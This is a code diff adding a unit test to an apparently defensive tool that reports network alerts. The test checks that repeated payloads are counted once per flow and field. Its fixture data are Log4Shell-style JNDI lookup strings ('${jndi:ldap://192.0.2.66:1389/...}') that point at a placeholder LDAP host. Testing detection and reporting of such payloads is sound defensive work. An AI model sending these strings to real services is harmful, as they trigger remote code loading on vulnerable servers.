@@ -300,6 +300,26 @@ def test_flow_ids_beyond_int64_are_exact(tmp_path: Path) -> None:
         assert [row[-1] for row in read_page(page).tables[key][1:]] == [e[1:] for e in expected]
 
 
+def test_a_payload_is_told_once_per_flow_and_field(tmp_path: Path) -> None:
+    """With the first and the last time, and in how many events it is."""
+    lookups = [f"${{jndi:ldap://192.0.2.66:1389/{name}}}" for name in "aabaa"]
+    frame = alerts(
+        *"vwxyz", flow_id=pa.array([1, 1, 1, 1, 2], pa.int64()), http__url=pa.array(lookups)
+    )
+    rows = read_sheet(report(frame.iloc[[3, 0, 4, 2, 1]], tmp_path / "a.html")[1])
+    payloads = [row for row in rows if row["section"] == "payload"]
+    told = [
+        (row["flow_id"], row["text"][-2], row["time"][17:19], row["last_seen"][17:19], row["count"])
+        for row in payloads
+    ]
+
+    assert told == [
+        ("'1", "a", "00", "03", "3"),
+        ("'1", "b", "02", "02", "1"),
+        ("'2", "a", "04", "04", "1"),
+    ]
+
+
 def test_long_text_is_cut_in_the_page_with_its_length_and_whole_in_the_csv(tmp_path: Path) -> None:
     long, longer = "a" * 5000, "\U0001f600" * 40_000
     page, table = report(alerts(long, longer), tmp_path / "a.html")
